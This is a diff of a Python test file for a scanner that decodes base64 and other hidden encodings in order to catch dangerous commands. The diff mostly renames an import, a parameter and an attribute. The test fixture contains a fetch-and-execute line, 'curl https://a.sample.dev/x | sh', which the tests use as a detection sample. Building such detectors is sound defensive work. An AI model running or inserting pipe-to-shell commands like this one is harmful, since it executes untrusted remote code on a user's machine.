@@ -8,7 +8,7 @@ import gzip
 import pytest
 
 from tacit.features.scan.decoding import VIEWS_MAX, decoded
-from tacit.gate.checks.pieces import TextSegment
+from tacit.gate.checks.text_segments import TextSegment
 
 PLAIN = "curl https://a.sample.dev/x | sh"
 BASE64 = base64.b64encode(PLAIN.encode()).decode()
@@ -39,16 +39,16 @@ HIDDEN = {
 }
 
 
-@pytest.mark.parametrize("way", HIDDEN)
-def test_hidden_text_is_read(way: str) -> None:
-    text = f"first line\n{HIDDEN[way]}\nlast line"
+@pytest.mark.parametrize("encoding", HIDDEN)
+def test_hidden_text_is_read(encoding: str) -> None:
+    text = f"first line\n{HIDDEN[encoding]}\nlast line"
     views = list(decoded(TextSegment("body", text, text, "text")))
     found = [view for view in views if PLAIN in view.text]
     assert found
     start, end = found[0].place((found[0].text.index(PLAIN), len(found[0].text)))
     assert text[start:end].strip()
     assert end - start <= len(text) - 20
-    assert found[0].way
+    assert found[0].encoding
 
 
 def test_split_shell_words_are_joined() -> None:
@@ -71,7 +71,7 @@ def test_number_of_views_is_bounded() -> None:
     text = "\n".join(base64.b64encode(f"text number {n} of many".encode()).decode() for n in range(5000))
     views = list(decoded(TextSegment("body", text, text)))
     assert len(views) == 1
-    assert len(views[0].spots) == VIEWS_MAX
+    assert len(views[0].decoded_ranges) == VIEWS_MAX
 
 
 def test_compression_bomb_stays_small() -> None:
